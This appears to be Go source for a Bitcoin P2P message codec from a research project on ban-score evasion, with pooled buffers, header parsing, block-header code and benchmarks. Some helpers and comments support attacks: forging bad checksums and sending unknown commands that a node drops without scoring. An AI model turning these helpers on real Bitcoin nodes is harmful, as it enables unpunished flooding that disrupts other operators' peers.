type ErrUnknownCommand struct {
	Command string
}

// Error implements the error interface.
func (e *ErrUnknownCommand) Error() string {
	return fmt.Sprintf("unknown command %q", e.Command)
}

// Message is the interface every Bitcoin P2P message implements.
type Message interface {
	BtcDecode(r io.Reader, pver uint32) error
	BtcEncode(w io.Writer, pver uint32) error
	Command() string
	MaxPayloadLength(pver uint32) uint32
}

// makeEmptyMessage creates a zero message of the proper concrete type for the
// given command.
func makeEmptyMessage(command string) (Message, error) {
	switch command {
	case CmdVersion:
		return &MsgVersion{}, nil
	case CmdVerAck:
		return &MsgVerAck{}, nil
	case CmdAddr:
		return &MsgAddr{}, nil
	case CmdGetAddr:
		return &MsgGetAddr{}, nil
	case CmdInv:
		return &MsgInv{}, nil
	case CmdGetData:
		return &MsgGetData{}, nil
	case CmdNotFound:
		return &MsgNotFound{}, nil
	case CmdGetBlocks:
		return &MsgGetBlocks{}, nil
	case CmdGetHeaders:
		return &MsgGetHeaders{}, nil
	case CmdHeaders:
		return &MsgHeaders{}, nil
	case CmdTx:
		return &MsgTx{}, nil
	case CmdBlock:
		return &MsgBlock{}, nil
	case CmdMemPool:
		return &MsgMemPool{}, nil
	case CmdPing:
		return &MsgPing{}, nil
	case CmdPong:
		return &MsgPong{}, nil
	case CmdReject:
		return &MsgReject{}, nil
	case CmdFilterLoad:
		return &MsgFilterLoad{}, nil
	case CmdFilterAdd:
		return &MsgFilterAdd{}, nil
	case CmdFilterClear:
		return &MsgFilterClear{}, nil
	case CmdMerkleBlock:
		return &MsgMerkleBlock{}, nil
	case CmdSendHeaders:
		return &MsgSendHeaders{}, nil
	case CmdFeeFilter:
		return &MsgFeeFilter{}, nil
	case CmdSendCmpct:
		return &MsgSendCmpct{}, nil
	case CmdCmpctBlock:
		return &MsgCmpctBlock{}, nil
	case CmdGetBlockTxn:
		return &MsgGetBlockTxn{}, nil
	case CmdBlockTxn:
		return &MsgBlockTxn{}, nil
	}
	return nil, &ErrUnknownCommand{Command: command}
}

// messageHeader is the decoded fixed header.
type messageHeader struct {
	magic    BitcoinNet
	command  string
	length   uint32
	checksum [4]byte
}

func readMessageHeader(r io.Reader) (*messageHeader, error) {
	var headerBytes [MessageHeaderSize]byte
	if _, err := io.ReadFull(r, headerBytes[:]); err != nil {
		return nil, err
	}
	hr := bytes.NewReader(headerBytes[:])
	hdr := messageHeader{}
	magic, err := readUint32(hr)
	if err != nil {
		return nil, err
	}
	hdr.magic = BitcoinNet(magic)
	var command [CommandSize]byte
	if _, err := io.ReadFull(hr, command[:]); err != nil {
		return nil, err
	}
	hdr.command = string(bytes.TrimRight(command[:], "\x00"))
	if hdr.length, err = readUint32(hr); err != nil {
		return nil, err
	}
	if _, err := io.ReadFull(hr, hdr.checksum[:]); err != nil {
		return nil, err
	}
	return &hdr, nil
}

// WriteMessage serializes msg with a full header to w for the given network.
// It returns the total number of bytes written.
func WriteMessage(w io.Writer, msg Message, pver uint32, net BitcoinNet) (int, error) {
	command := msg.Command()
	if len(command) > CommandSize {
		return 0, messageError("WriteMessage", fmt.Sprintf("command %q too long", command))
	}

	var payload bytes.Buffer
	if err := msg.BtcEncode(&payload, pver); err != nil {
		return 0, err
	}
	body := payload.Bytes()
	if len(body) > MaxMessagePayload {
		return 0, messageError("WriteMessage",
			fmt.Sprintf("payload %d exceeds max %d", len(body), MaxMessagePayload))
	}
	if maxLen := msg.MaxPayloadLength(pver); uint32(len(body)) > maxLen {
		return 0, messageError("WriteMessage",
			fmt.Sprintf("payload %d exceeds max for %q [%d]", len(body), command, maxLen))
	}
	return WriteRawMessage(w, command, body, net)
}

// WriteRawMessage frames an arbitrary payload under the given command with a
// correct checksum. It is what both the node and the attacker use; attackers
// forging *incorrect* checksums use WriteRawMessageChecksum directly.
func WriteRawMessage(w io.Writer, command string, payload []byte, net BitcoinNet) (int, error) {
	var checksum [4]byte
	copy(checksum[:], chainhash.DoubleHashB(payload)[:4])
	return WriteRawMessageChecksum(w, command, payload, net, checksum)
}

// WriteRawMessageChecksum frames a payload with a caller-supplied checksum,
// allowing the deliberate corruption used by the paper's bogus-message attack
// vector.
func WriteRawMessageChecksum(w io.Writer, command string, payload []byte, net BitcoinNet, checksum [4]byte) (int, error) {
	var cmd [CommandSize]byte
	copy(cmd[:], command)

	header := bytes.NewBuffer(make([]byte, 0, MessageHeaderSize))
	_ = writeUint32(header, uint32(net))
	header.Write(cmd[:])
	_ = writeUint32(header, uint32(len(payload)))
	header.Write(checksum[:])

	n, err := w.Write(header.Bytes())
	if err != nil {
		return n, err
	}
	np, err := w.Write(payload)
	return n + np, err
}

// ReadMessage reads, validates, and decodes the next message from r.
// On success it returns the message and its raw payload. The validation
// order mirrors a real node: magic, command sanity, length, THEN checksum,
// THEN payload decode — so checksum failures never reach message processing.
func ReadMessage(r io.Reader, pver uint32, net BitcoinNet) (Message, []byte, error) {
	hdr, err := readMessageHeader(r)
	if err != nil {
		return nil, nil, err
	}
	if hdr.magic != net {
		return nil, nil, messageError("ReadMessage",
			fmt.Sprintf("message from other network [%v]", hdr.magic))
	}
	if !utf8.ValidString(hdr.command) {
		return nil, nil, messageError("ReadMessage", "invalid command")
	}
	if hdr.length > MaxMessagePayload {
		return nil, nil, messageError("ReadMessage",
			fmt.Sprintf("payload %d exceeds max %d", hdr.length, MaxMessagePayload))
	}

	msg, err := makeEmptyMessage(hdr.command)
	if err != nil {
		// Unknown command: drain the payload so the stream stays in sync,
		// then report. The caller ignores these without scoring.
		if _, cErr := io.CopyN(io.Discard, r, int64(hdr.length)); cErr != nil {
			return nil, nil, cErr
		}
		return nil, nil, err
	}
	if maxLen := msg.MaxPayloadLength(pver); hdr.length > maxLen {
		if _, cErr := io.CopyN(io.Discard, r, int64(hdr.length)); cErr != nil {
			return nil, nil, cErr
		}
		return nil, nil, messageError("ReadMessage",
			fmt.Sprintf("payload %d exceeds max for %q [%d]", hdr.length, hdr.command, maxLen))
	}

	payload := make([]byte, hdr.length)
	if _, err := io.ReadFull(r, payload); err != nil {
		return nil, nil, err
	}

	var checksum [4]byte
	copy(checksum[:], chainhash.DoubleHashB(payload)[:4])
	if checksum != hdr.checksum {
		return nil, nil, fmt.Errorf("command %q: %w (got %x, want %x)",
			hdr.command, ErrChecksumMismatch, hdr.checksum, checksum)
	}

	if err := msg.BtcDecode(bytes.NewReader(payload), pver); err != nil {
		return nil, payload, err
	}
	return msg, payload, nil
}
