package wire

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"unicode/utf8"

	"banscore/internal/chainhash"
)

// MessageHeaderSize is the size of the fixed message header: 4 bytes magic,
// 12 bytes command, 4 bytes payload length, 4 bytes checksum.
const MessageHeaderSize = 24

// CommandSize is the fixed, NUL-padded size of the command field.
const CommandSize = 12

// ErrChecksumMismatch is returned by ReadMessage when the payload checksum
// does not match the header. This failure is detected by the transport
// framing *before* any application-layer processing, so — exactly as the
// paper's attack vector 2 exploits — it is dropped without increasing the
// sender's ban score.
var ErrChecksumMismatch = errors.New("payload checksum mismatch")

// ErrUnknownCommand is returned by ReadMessage for a syntactically valid
// header naming a command this implementation does not know. Bitcoin Core
// ignores unknown commands without scoring, another score-free vector.
type ErrUnknownCommand struct {
	Command string
}

// Error implements the error interface.
func (e *ErrUnknownCommand) Error() string {
	return fmt.Sprintf("unknown command %q", e.Command)
}

// Message is the interface every Bitcoin P2P message implements.
type Message interface {
	BtcDecode(r io.Reader, pver uint32) error
	BtcEncode(w io.Writer, pver uint32) error
	Command() string
	MaxPayloadLength(pver uint32) uint32
}

// commandNames interns the NUL-padded command field of every known message
// so the steady-state header parse resolves commands with a map probe
// instead of allocating a fresh string per message.
var commandNames = map[[CommandSize]byte]string{}

func init() {
	for _, cmd := range []string{
		CmdVersion, CmdVerAck, CmdAddr, CmdGetAddr, CmdInv, CmdGetData,
		CmdNotFound, CmdGetBlocks, CmdGetHeaders, CmdHeaders, CmdTx,
		CmdBlock, CmdMemPool, CmdPing, CmdPong, CmdReject, CmdFilterLoad,
		CmdFilterAdd, CmdFilterClear, CmdMerkleBlock, CmdSendHeaders,
		CmdFeeFilter, CmdSendCmpct, CmdCmpctBlock, CmdGetBlockTxn,
		CmdBlockTxn,
	} {
		var k [CommandSize]byte
		copy(k[:], cmd)
		commandNames[k] = cmd
	}
}

// makeEmptyMessage creates a zero message of the proper concrete type for the
// given command.
func makeEmptyMessage(command string) (Message, error) {
	switch command {
	case CmdVersion:
		return &MsgVersion{}, nil
	case CmdVerAck:
		return &MsgVerAck{}, nil
	case CmdAddr:
		return &MsgAddr{}, nil
	case CmdGetAddr:
		return &MsgGetAddr{}, nil
	case CmdInv:
		return &MsgInv{}, nil
	case CmdGetData:
		return &MsgGetData{}, nil
	case CmdNotFound:
		return &MsgNotFound{}, nil
	case CmdGetBlocks:
		return &MsgGetBlocks{}, nil
	case CmdGetHeaders:
		return &MsgGetHeaders{}, nil
	case CmdHeaders:
		return &MsgHeaders{}, nil
	case CmdTx:
		return &MsgTx{}, nil
	case CmdBlock:
		return &MsgBlock{}, nil
	case CmdMemPool:
		return &MsgMemPool{}, nil
	case CmdPing:
		return &MsgPing{}, nil
	case CmdPong:
		return &MsgPong{}, nil
	case CmdReject:
		return &MsgReject{}, nil
	case CmdFilterLoad:
		return &MsgFilterLoad{}, nil
	case CmdFilterAdd:
		return &MsgFilterAdd{}, nil
	case CmdFilterClear:
		return &MsgFilterClear{}, nil
	case CmdMerkleBlock:
		return &MsgMerkleBlock{}, nil
	case CmdSendHeaders:
		return &MsgSendHeaders{}, nil
	case CmdFeeFilter:
		return &MsgFeeFilter{}, nil
	case CmdSendCmpct:
		return &MsgSendCmpct{}, nil
	case CmdCmpctBlock:
		return &MsgCmpctBlock{}, nil
	case CmdGetBlockTxn:
		return &MsgGetBlockTxn{}, nil
	case CmdBlockTxn:
		return &MsgBlockTxn{}, nil
	}
	return nil, &ErrUnknownCommand{Command: command}
}

// messageHeader is the decoded fixed header.
type messageHeader struct {
	magic    BitcoinNet
	command  string
	length   uint32
	checksum [4]byte
}

// Codec decodes and encodes framed messages for one connection. It owns the
// header scratch buffer and the payload reader that would otherwise escape
// to the heap on every message, making the steady-state receive path
// allocation-free. A Codec is not safe for concurrent use; each peer
// connection embeds its own.
type Codec struct {
	hdr [MessageHeaderSize]byte
	pr  payloadReader
}

// LastChecksum returns the wire checksum of the most recently decoded
// message's payload, straight from the codec's header scratch. Valid only
// between a successful DecodeMessage and the next read; the peer layer
// snapshots it immediately after decode as misbehavior evidence — the same
// 4 bytes the node already verified against the payload, re-used instead of
// re-hashed.
func (c *Codec) LastChecksum() [4]byte {
	var sum [4]byte
	copy(sum[:], c.hdr[20:24])
	return sum
}

// parseHeader decodes the fixed header out of the codec's scratch buffer.
func (c *Codec) parseHeader() messageHeader {
	var hdr messageHeader
	hdr.magic = BitcoinNet(binary.LittleEndian.Uint32(c.hdr[0:4]))
	var cmd [CommandSize]byte
	copy(cmd[:], c.hdr[4:16])
	if name, ok := commandNames[cmd]; ok {
		hdr.command = name
	} else {
		hdr.command = string(bytes.TrimRight(cmd[:], "\x00"))
	}
	hdr.length = binary.LittleEndian.Uint32(c.hdr[16:20])
	copy(hdr.checksum[:], c.hdr[20:24])
	return hdr
}

// DecodeMessage reads, validates, and decodes the next message from r.
// On success it returns the message and its raw payload as a pooled buffer
// the caller MUST Release (or Detach) exactly once. The validation order
// mirrors a real node: magic, command sanity, length, THEN checksum, THEN
// payload decode — so checksum failures never reach message processing.
//
// pick, when non-nil, is consulted before makeEmptyMessage and may return a
// reusable decode target for the command (or nil to fall through). Only
// messages the caller never retains past its handler — in practice the
// ping/pong flood shape — are safe to reuse.
//
// A decode (BtcDecode) failure returns (nil, buf, err) with a non-nil
// buffer so the caller can distinguish malformed-payload errors, which are
// scored, from framing errors, which are not; the buffer must still be
// released. All other failures return a nil buffer.
//
//banlint:hotpath per-message flood path: header scratch + pooled payload, no per-call allocation
func (c *Codec) DecodeMessage(r io.Reader, pver uint32, bnet BitcoinNet, pick func(command string) Message) (Message, *Buf, error) {
	if _, err := io.ReadFull(r, c.hdr[:]); err != nil {
		return nil, nil, err
	}
	hdr := c.parseHeader()
	if hdr.magic != bnet {
		return nil, nil, messageError("ReadMessage",
			fmt.Sprintf("message from other network [%v]", hdr.magic))
	}
	if !utf8.ValidString(hdr.command) {
		return nil, nil, messageError("ReadMessage", "invalid command")
	}
	if hdr.length > MaxMessagePayload {
		return nil, nil, messageError("ReadMessage",
			fmt.Sprintf("payload %d exceeds max %d", hdr.length, MaxMessagePayload))
	}

	var msg Message
	if pick != nil {
		msg = pick(hdr.command)
	}
	if msg == nil {
		var err error
		msg, err = makeEmptyMessage(hdr.command)
		if err != nil {
			// Unknown command: drain the payload so the stream stays in
			// sync, then report. The caller ignores these without scoring.
			if _, cErr := io.CopyN(io.Discard, r, int64(hdr.length)); cErr != nil {
				return nil, nil, cErr
			}
			return nil, nil, err
		}
	}
	if maxLen := msg.MaxPayloadLength(pver); hdr.length > maxLen {
		if _, cErr := io.CopyN(io.Discard, r, int64(hdr.length)); cErr != nil {
			return nil, nil, cErr
		}
		return nil, nil, messageError("ReadMessage",
			fmt.Sprintf("payload %d exceeds max for %q [%d]", hdr.length, hdr.command, maxLen))
	}

	buf := GetBuf(int(hdr.length))
	if _, err := io.ReadFull(r, buf.Bytes()); err != nil {
		buf.Release()
		return nil, nil, err
	}

	if checksum := chainhash.Checksum4(buf.Bytes()); checksum != hdr.checksum {
		buf.Release()
		return nil, nil, fmt.Errorf("command %q: %w (got %x, want %x)",
			hdr.command, ErrChecksumMismatch, hdr.checksum, checksum)
	}

	c.pr.reset(buf.Bytes())
	if err := msg.BtcDecode(&c.pr, pver); err != nil {
		return nil, buf, err
	}
	return msg, buf, nil
}

// ReadMessage reads, validates, and decodes the next message from r. It is
// the Release-free compatibility form of Codec.DecodeMessage: the returned
// payload is detached from the pool, so callers own it outright with no
// further obligation. Hot paths should hold a Codec instead.
func ReadMessage(r io.Reader, pver uint32, net BitcoinNet) (Message, []byte, error) {
	var c Codec
	msg, buf, err := c.DecodeMessage(r, pver, net, nil)
	return msg, buf.Detach(), err
}

// EncodeMessage serializes msg with a full header into a pooled buffer for
// the given network. The caller owns the returned buffer and MUST Release
// (or Detach) it exactly once after writing it out.
//
//banlint:hotpath per-message send path: one pooled buffer, header written in place
func EncodeMessage(msg Message, pver uint32, net BitcoinNet) (*Buf, error) {
	command := msg.Command()
	if len(command) > CommandSize {
		return nil, messageError("WriteMessage", fmt.Sprintf("command %q too long", command))
	}

	buf := GetBuf(MessageHeaderSize)
	if err := msg.BtcEncode(buf, pver); err != nil {
		buf.Release()
		return nil, err
	}
	body := buf.Bytes()[MessageHeaderSize:]
	if len(body) > MaxMessagePayload {
		buf.Release()
		return nil, messageError("WriteMessage",
			fmt.Sprintf("payload %d exceeds max %d", len(body), MaxMessagePayload))
	}
	if maxLen := msg.MaxPayloadLength(pver); uint32(len(body)) > maxLen {
		buf.Release()
		return nil, messageError("WriteMessage",
			fmt.Sprintf("payload %d exceeds max for %q [%d]", len(body), command, maxLen))
	}

	frame := buf.Bytes()
	binary.LittleEndian.PutUint32(frame[0:4], uint32(net))
	var cmd [CommandSize]byte
	copy(cmd[:], command)
	copy(frame[4:16], cmd[:])
	binary.LittleEndian.PutUint32(frame[16:20], uint32(len(body)))
	checksum := chainhash.Checksum4(body)
	copy(frame[20:24], checksum[:])
	return buf, nil
}

// WriteMessage serializes msg with a full header to w for the given network.
// It returns the total number of bytes written.
func WriteMessage(w io.Writer, msg Message, pver uint32, net BitcoinNet) (int, error) {
	buf, err := EncodeMessage(msg, pver, net)
	if err != nil {
		return 0, err
	}
	n, err := w.Write(buf.Bytes())
	buf.Release()
	return n, err
}

// WriteRawMessage frames an arbitrary payload under the given command with a
// correct checksum. It is what both the node and the attacker use; attackers
// forging *incorrect* checksums use WriteRawMessageChecksum directly.
func WriteRawMessage(w io.Writer, command string, payload []byte, net BitcoinNet) (int, error) {
	return WriteRawMessageChecksum(w, command, payload, net, chainhash.Checksum4(payload))
}

// WriteRawMessageChecksum frames a payload with a caller-supplied checksum,
// allowing the deliberate corruption used by the paper's bogus-message attack
// vector.
func WriteRawMessageChecksum(w io.Writer, command string, payload []byte, net BitcoinNet, checksum [4]byte) (int, error) {
	var header [MessageHeaderSize]byte
	binary.LittleEndian.PutUint32(header[0:4], uint32(net))
	copy(header[4:16], command)
	binary.LittleEndian.PutUint32(header[16:20], uint32(len(payload)))
	copy(header[20:24], checksum[:])

	n, err := w.Write(header[:])
	if err != nil {
		return n, err
	}
	np, err := w.Write(payload)
	return n + np, err
}
