//go:build poolpoison

package wire

// PoolPoisonEnabled reports whether released buffers are poisoned. Tests
// assert on it so the poolpoison suite fails loudly when run without the
// tag instead of silently passing.
const PoolPoisonEnabled = true

// poison overwrites a released buffer's full capacity with 0xdb so any
// alias read after Release returns garbage deterministically instead of
// whichever message recycled the buffer next.
func poison(p []byte) {
	p = p[:cap(p)]
	for i := range p {
		p[i] = 0xdb
	}
}
