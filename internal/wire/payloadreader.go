package wire

import "io"

// payloadReader is an allocation-free io.Reader over one decoded message
// payload. The integer read helpers in common.go type-assert for it and
// read directly from the backing slice, so steady-state payload decoding
// performs no copies through stack buffers that would escape into the
// heap via the io.Reader interface. One payloadReader lives in each Codec
// and is reset per message; it is not safe for concurrent use.
type payloadReader struct {
	b   []byte
	off int
}

func (p *payloadReader) reset(b []byte) { p.b, p.off = b, 0 }

// Read implements io.Reader for decode paths with no fast-path support.
func (p *payloadReader) Read(out []byte) (int, error) {
	if p.off >= len(p.b) {
		return 0, io.EOF
	}
	n := copy(out, p.b[p.off:])
	p.off += n
	return n, nil
}

// take returns the next n bytes of the payload without copying, or false
// when fewer than n remain.
func (p *payloadReader) take(n int) ([]byte, bool) {
	if len(p.b)-p.off < n {
		return nil, false
	}
	s := p.b[p.off : p.off+n]
	p.off += n
	return s, true
}

// eofErr mirrors io.ReadFull's error contract for a failed take: io.EOF at
// a clean payload boundary, io.ErrUnexpectedEOF mid-value.
func (p *payloadReader) eofErr() error {
	if p.off >= len(p.b) {
		return io.EOF
	}
	return io.ErrUnexpectedEOF
}
