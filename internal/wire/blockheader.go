package wire

import (
	"bytes"
	"io"
	"time"

	"banscore/internal/chainhash"
)

// BlockHeaderLen is the serialized size of a block header.
const BlockHeaderLen = 80

// BlockHeader defines a Bitcoin block header: the 80 bytes over which the
// proof of work is computed.
type BlockHeader struct {
	// Version of the block.
	Version int32

	// PrevBlock is the hash of the previous block header in the chain.
	PrevBlock chainhash.Hash

	// MerkleRoot of the transactions in the block.
	MerkleRoot chainhash.Hash

	// Timestamp the block was created (second precision on the wire).
	Timestamp time.Time

	// Bits is the compact-form difficulty target.
	Bits uint32

	// Nonce ground by miners to satisfy the target.
	Nonce uint32
}

// BlockHash computes the double-SHA256 hash of the serialized header, which
// is the block's identity and its proof-of-work value.
func (h *BlockHeader) BlockHash() chainhash.Hash {
	buf := bytes.NewBuffer(make([]byte, 0, BlockHeaderLen))
	// Serialize can only fail on a failing writer; bytes.Buffer never fails.
	_ = writeBlockHeader(buf, h)
	return chainhash.DoubleHashH(buf.Bytes())
}

// Serialize encodes the header to w in wire format.
func (h *BlockHeader) Serialize(w io.Writer) error {
	return writeBlockHeader(w, h)
}

// Deserialize decodes the header from r in wire format.
func (h *BlockHeader) Deserialize(r io.Reader) error {
	return readBlockHeader(r, h)
}

// NewBlockHeader returns a header with the timestamp truncated to seconds,
// matching wire precision.
func NewBlockHeader(version int32, prevBlock, merkleRoot *chainhash.Hash, timestamp time.Time, bits, nonce uint32) *BlockHeader {
	return &BlockHeader{
		Version:    version,
		PrevBlock:  *prevBlock,
		MerkleRoot: *merkleRoot,
		Timestamp:  time.Unix(timestamp.Unix(), 0),
		Bits:       bits,
		Nonce:      nonce,
	}
}

func readBlockHeader(r io.Reader, h *BlockHeader) error {
	version, err := readUint32(r)
	if err != nil {
		return err
	}
	h.Version = int32(version)
	if err := readHash(r, &h.PrevBlock); err != nil {
		return err
	}
	if err := readHash(r, &h.MerkleRoot); err != nil {
		return err
	}
	ts, err := readUint32(r)
	if err != nil {
		return err
	}
	h.Timestamp = time.Unix(int64(ts), 0)
	if h.Bits, err = readUint32(r); err != nil {
		return err
	}
	h.Nonce, err = readUint32(r)
	return err
}

func writeBlockHeader(w io.Writer, h *BlockHeader) error {
	if err := writeUint32(w, uint32(h.Version)); err != nil {
		return err
	}
	if err := writeHash(w, &h.PrevBlock); err != nil {
		return err
	}
	if err := writeHash(w, &h.MerkleRoot); err != nil {
		return err
	}
	if err := writeUint32(w, uint32(h.Timestamp.Unix())); err != nil {
		return err
	}
	if err := writeUint32(w, h.Bits); err != nil {
		return err
	}
	return writeUint32(w, h.Nonce)
}
