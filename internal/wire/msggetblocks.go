package wire

import (
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// MaxBlockLocatorsPerMsg is the maximum number of block locator hashes in a
// GETBLOCKS or GETHEADERS message.
const MaxBlockLocatorsPerMsg = 500

// locatorMessage is the shared body of GETBLOCKS and GETHEADERS.
type locatorMessage struct {
	ProtocolVersion    uint32
	BlockLocatorHashes []*chainhash.Hash
	HashStop           chainhash.Hash
}

// AddBlockLocatorHash appends a locator hash, enforcing the protocol cap.
func (msg *locatorMessage) AddBlockLocatorHash(hash *chainhash.Hash) error {
	if len(msg.BlockLocatorHashes)+1 > MaxBlockLocatorsPerMsg {
		return messageError("AddBlockLocatorHash",
			fmt.Sprintf("too many block locator hashes [max %d]", MaxBlockLocatorsPerMsg))
	}
	msg.BlockLocatorHashes = append(msg.BlockLocatorHashes, hash)
	return nil
}

// BtcDecode decodes the locator message.
func (msg *locatorMessage) BtcDecode(r io.Reader, _ uint32) error {
	pv, err := readUint32(r)
	if err != nil {
		return err
	}
	msg.ProtocolVersion = pv
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > MaxBlockLocatorsPerMsg {
		return messageError("locatorMessage.BtcDecode",
			fmt.Sprintf("too many block locator hashes [%d, max %d]", count, MaxBlockLocatorsPerMsg))
	}
	msg.BlockLocatorHashes = make([]*chainhash.Hash, 0, count)
	for i := uint64(0); i < count; i++ {
		var h chainhash.Hash
		if err := readHash(r, &h); err != nil {
			return err
		}
		msg.BlockLocatorHashes = append(msg.BlockLocatorHashes, &h)
	}
	return readHash(r, &msg.HashStop)
}

// BtcEncode encodes the locator message.
func (msg *locatorMessage) BtcEncode(w io.Writer, _ uint32) error {
	if len(msg.BlockLocatorHashes) > MaxBlockLocatorsPerMsg {
		return messageError("locatorMessage.BtcEncode",
			fmt.Sprintf("too many block locator hashes [%d, max %d]",
				len(msg.BlockLocatorHashes), MaxBlockLocatorsPerMsg))
	}
	if err := writeUint32(w, msg.ProtocolVersion); err != nil {
		return err
	}
	if err := WriteVarInt(w, uint64(len(msg.BlockLocatorHashes))); err != nil {
		return err
	}
	for _, h := range msg.BlockLocatorHashes {
		if err := writeHash(w, h); err != nil {
			return err
		}
	}
	return writeHash(w, &msg.HashStop)
}

// MaxPayloadLength returns the maximum payload for locator messages.
func (msg *locatorMessage) MaxPayloadLength(uint32) uint32 {
	return 4 + MaxVarIntPayload + (MaxBlockLocatorsPerMsg+1)*chainhash.HashSize
}

// MsgGetBlocks implements the Message interface and represents a GETBLOCKS
// message requesting block inventory after the locator.
type MsgGetBlocks struct{ locatorMessage }

// NewMsgGetBlocks returns a GETBLOCKS message with the given stop hash.
func NewMsgGetBlocks(hashStop *chainhash.Hash) *MsgGetBlocks {
	return &MsgGetBlocks{locatorMessage{
		ProtocolVersion: ProtocolVersion,
		HashStop:        *hashStop,
	}}
}

// Command returns the protocol command string.
func (*MsgGetBlocks) Command() string { return CmdGetBlocks }

// MsgGetHeaders implements the Message interface and represents a GETHEADERS
// message requesting headers after the locator.
type MsgGetHeaders struct{ locatorMessage }

// NewMsgGetHeaders returns an empty GETHEADERS message.
func NewMsgGetHeaders() *MsgGetHeaders {
	return &MsgGetHeaders{locatorMessage{ProtocolVersion: ProtocolVersion}}
}

// Command returns the protocol command string.
func (*MsgGetHeaders) Command() string { return CmdGetHeaders }

var (
	_ Message = (*MsgGetBlocks)(nil)
	_ Message = (*MsgGetHeaders)(nil)
)
