package wire

import "sync"

// Size classes for pooled message buffers. Real traffic is dominated by
// tiny control messages (PING/PONG/INV), with a long tail up to the 32 MiB
// payload cap, so the classes step geometrically: a flood of small
// messages recycles the 256-byte class forever while an occasional block
// borrows a large buffer without poisoning the small pools.
var bufClasses = [...]int{256, 4 << 10, 64 << 10, 1 << 20, 4 << 20, MaxMessagePayload}

var bufPools [len(bufClasses)]sync.Pool

// Buf is a pooled, size-classed byte buffer holding one wire frame or
// payload. Ownership is explicit and single-holder:
//
//   - the function that returns a *Buf transfers ownership to the caller;
//   - exactly one Release (or Detach) ends that ownership;
//   - Bytes() is only valid until Release — retaining or aliasing it past
//     Release reads recycled memory (build with -tags poolpoison to make
//     such bugs loud: released buffers are overwritten with 0xdb).
//
// The banlint bufrelease analyzer enforces the Release obligation
// statically at every acquisition site.
type Buf struct {
	b     []byte
	class int8 // index into bufPools, or -1 when not pool-owned
}

// GetBuf returns a buffer of length n from the smallest fitting size
// class. Lengths above the largest class are served by a plain allocation
// that never enters a pool.
func GetBuf(n int) *Buf {
	for i, c := range bufClasses {
		if n <= c {
			b, _ := bufPools[i].Get().(*Buf)
			if b == nil {
				b = &Buf{b: make([]byte, 0, c), class: int8(i)}
			}
			b.b = b.b[:n]
			return b
		}
	}
	return &Buf{b: make([]byte, n), class: -1}
}

// Bytes returns the buffer's contents. The slice is owned by the pool:
// it is valid only until Release.
func (b *Buf) Bytes() []byte {
	if b == nil {
		return nil
	}
	return b.b
}

// Len returns the buffer's current length. Nil-safe.
func (b *Buf) Len() int {
	if b == nil {
		return 0
	}
	return len(b.b)
}

// Write appends p, growing the buffer if needed; it implements io.Writer
// so message encoders can target a Buf directly. Growth promotes the
// buffer to the next fitting size class through the pools, so encoders
// that start from a small class stay allocation-free at steady state.
func (b *Buf) Write(p []byte) (int, error) {
	if len(b.b)+len(p) > cap(b.b) {
		b.grow(len(b.b) + len(p))
	}
	b.b = append(b.b, p...)
	return len(p), nil
}

// grow moves the buffer's contents into a backing array of the smallest
// class holding need bytes, recycling the outgrown backing into its own
// class pool (by handing it to the *Buf box vacated by the pool Get) so a
// steady-state grow cycle performs no allocations. Past the largest class
// the buffer detaches and append takes over.
func (b *Buf) grow(need int) {
	ni := -1
	for i := range bufClasses {
		if need <= bufClasses[i] {
			ni = i
			break
		}
	}
	if ni < 0 {
		b.class = -1
		return
	}
	old := b.b
	oldClass := b.class
	if x, _ := bufPools[ni].Get().(*Buf); x != nil {
		b.b = append(x.b[:0], old...)
		if oldClass >= 0 && cap(old) >= bufClasses[oldClass] {
			poison(old)
			x.b = old[:0]
			x.class = oldClass
			bufPools[oldClass].Put(x)
		}
	} else {
		b.b = append(make([]byte, 0, bufClasses[ni]), old...)
	}
	b.class = int8(ni)
}

// Release returns the buffer to its size-class pool. It is nil-safe, and
// safe on detached buffers (no-op). After Release the Buf and any slice
// obtained from Bytes must not be used.
func (b *Buf) Release() {
	if b == nil || b.class < 0 {
		return
	}
	if cap(b.b) < bufClasses[b.class] {
		// Defensive: never seed a pool with an undersized backing array.
		return
	}
	poison(b.b)
	b.b = b.b[:0]
	bufPools[b.class].Put(b)
}

// Detach removes the buffer from pool management and returns its contents:
// the slice becomes an ordinary heap allocation the caller owns outright,
// and a later Release is a no-op. Compatibility paths that hand payloads to
// callers with no Release contract (wire.ReadMessage) use this.
func (b *Buf) Detach() []byte {
	if b == nil {
		return nil
	}
	p := b.b
	b.class = -1
	return p
}
