package wire

import (
	"bytes"
	"testing"

	"banscore/internal/chainhash"
)

// BenchmarkWireRoundTrip measures one full frame lifecycle on the pooled
// steady-state path: encode a ping into a pooled buffer, decode it back
// through a per-connection Codec reusing the same message value, release
// both buffers. This is the per-message cost a flood victim pays, and the
// bench gate holds it at 0 allocs/op.
func BenchmarkWireRoundTrip(b *testing.B) {
	b.Run("pooled", func(b *testing.B) {
		var codec Codec
		var reuse MsgPing
		pick := func(cmd string) Message {
			if cmd == CmdPing {
				return &reuse
			}
			return nil
		}
		ping := NewMsgPing(0x1badcafe)
		var rd bytes.Reader
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			buf, err := EncodeMessage(ping, ProtocolVersion, MainNet)
			if err != nil {
				b.Fatal(err)
			}
			rd.Reset(buf.Bytes())
			msg, pbuf, err := codec.DecodeMessage(&rd, ProtocolVersion, MainNet, pick)
			if err != nil {
				b.Fatal(err)
			}
			if msg.(*MsgPing).Nonce != ping.Nonce {
				b.Fatal("nonce mismatch")
			}
			pbuf.Release()
			buf.Release()
		}
	})
	// The pre-pool path: a fresh frame buffer, payload slice, and message
	// per round trip. Kept as the in-run contrast for the pooled numbers.
	b.Run("alloc", func(b *testing.B) {
		ping := NewMsgPing(0x1badcafe)
		var frame bytes.Buffer
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			frame.Reset()
			if _, err := WriteMessage(&frame, ping, ProtocolVersion, MainNet); err != nil {
				b.Fatal(err)
			}
			msg, _, err := ReadMessage(bytes.NewReader(frame.Bytes()), ProtocolVersion, MainNet)
			if err != nil {
				b.Fatal(err)
			}
			if msg.(*MsgPing).Nonce != ping.Nonce {
				b.Fatal("nonce mismatch")
			}
		}
	})
}

// BenchmarkWireEncodeInv covers a larger, varint-bearing payload so encode
// fast paths past the fixed-width helpers stay on the gate.
func BenchmarkWireEncodeInv(b *testing.B) {
	inv := NewMsgInv()
	for i := 0; i < 64; i++ {
		var h chainhash.Hash
